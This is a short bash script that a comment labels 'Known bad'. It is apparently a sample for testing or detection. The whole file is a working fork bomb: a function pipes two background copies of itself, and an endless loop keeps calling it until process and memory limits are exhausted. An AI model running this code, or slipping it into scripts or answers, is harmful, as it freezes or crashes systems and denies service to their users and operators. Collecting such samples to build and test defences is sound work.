#!/usr/bin/env bash
# Known bad: forks for ever, each child as well.
bomb() { bomb | bomb & }
while true; do
    bomb
done
